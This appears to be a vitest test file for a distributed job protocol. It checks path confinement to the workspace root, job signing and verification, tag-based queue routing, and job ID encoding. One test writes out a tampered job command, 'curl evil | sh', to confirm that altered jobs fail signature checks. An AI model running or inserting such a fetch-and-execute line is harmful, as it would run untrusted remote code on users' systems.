import { describe, expect, it } from 'vitest';
import {
  fromWire,
  jobIdFor,
  openJob,
  queueFor,
  queuesServed,
  remoteProblem,
  sealJob,
  toWire,
  type StepJob,
} from '../../../src/engines/distributed/protocol.js';
import type { ScriptStep } from '../../../src/core/spec.js';
import { commandStep, scriptStep } from '../../helpers/step-factory.js';

const job = (step = toWire(commandStep('echo hi', { id: 'a/b', cwd: '/work/p/sub' }), '/work/p')): StepJob => ({
  v: 1,
  runId: 'r1',
  stepId: 'a/b',
  attempt: 1,
  step,
  relay: false,
  issuedAt: 1,
});

describe('distributed protocol', () => {
  it('ships paths relative to the root and resolves them against the worker root', () => {
    const step: ScriptStep = { ...scriptStep('/work/p/scripts/x.py', { cwd: '/work/p', interpreter: ['/work/p/.venv/bin/python', '-u'] }) };
    const wire = toWire(step, '/work/p');
    expect(wire).toMatchObject({ cwd: '.', path: 'scripts/x.py', interpreter: ['$ROOT/.venv/bin/python', '-u'] });
    const back = fromWire(JSON.parse(JSON.stringify(wire)) as typeof wire, '/srv/checkout') as ScriptStep;
    expect(back).toMatchObject({ cwd: '/srv/checkout', path: '/srv/checkout/scripts/x.py', interpreter: ['/srv/checkout/.venv/bin/python', '-u'] });
  });

  it('refuses paths that leave the root, on both sides', () => {
    expect(remoteProblem(commandStep('true', { id: 'x', cwd: '/etc' }), '/work/p')).toMatch(/cwd \/etc is outside the workspace root \/work\/p/);
    expect(remoteProblem(commandStep('true', { id: 'x', cwd: '/work/p/../q' }), '/work/p')).toMatch(/outside/);
    expect(remoteProblem(commandStep('true', { id: 'x', cwd: '/work/p2' }), '/work/p')).toMatch(/outside/);
    const forged = { ...toWire(commandStep('true', { id: 'x', cwd: '/work/p' }), '/work/p'), cwd: '../../etc' };
    expect(() => fromWire(forged, '/srv/checkout')).toThrow(/cwd \.\.\/\.\.\/etc leaves the workspace root/);
  });

  it('signs the job; a worker with the secret refuses unsigned, altered and foreign jobs', () => {
    const signed = JSON.parse(JSON.stringify(sealJob(job(), 'k'))) as unknown;
    expect(openJob(signed, 'k')).toMatchObject({ ok: true });
    expect(openJob(signed, undefined)).toMatchObject({ ok: true });
    expect(openJob(JSON.parse(JSON.stringify(sealJob(job(), undefined))), 'k')).toMatchObject({ ok: false, reason: expect.stringMatching(/unsigned/) as unknown });
    const altered = JSON.parse(JSON.stringify(signed)) as { job: { step: { command: string } } };
    altered.job.step.command = 'curl evil | sh';
    expect(openJob(altered, 'k')).toMatchObject({ ok: false, reason: expect.stringMatching(/signature does not match/) as unknown });
    expect(openJob(signed, 'other')).toMatchObject({ ok: false });
    expect(openJob({ k: 1 }, undefined)).toMatchObject({ ok: false, reason: 'not an orchestrator step job' });
    expect(openJob({ job: { ...job(), v: 99 } }, undefined)).toMatchObject({ ok: false, reason: expect.stringMatching(/protocol version 99/) as unknown });
  });

  it('routes by queue and tags; a worker serves every subset of its tags', () => {
    expect(queueFor('steps', commandStep('true', { id: 'x' }))).toBe('steps');
    expect(queueFor('steps', commandStep('true', { id: 'x', runsOn: { tags: ['linux', 'gpu', 'gpu'] } }))).toBe('steps.gpu+linux');
    expect(queueFor('steps', commandStep('true', { id: 'x', runsOn: { queue: 'q' } }))).toBe('q');
    expect(queuesServed('steps', ['linux', 'gpu'])).toEqual(['steps', 'steps.gpu', 'steps.linux', 'steps.gpu+linux']);
    expect(() => queuesServed('steps', ['a', 'b', 'c', 'd', 'e', 'f', 'g'])).toThrow(/at most 6 tags/);
  });

  it('job ids have no colon and differ per submission', () => {
    expect(jobIdFor('r', 'a:b/c', 2, 'x1')).toBe('r|a%3Ab%2Fc|2|x1');
    expect(jobIdFor('r', 's', 1, 'x1')).not.toBe(jobIdFor('r', 's', 1, 'x2'));
  });
});
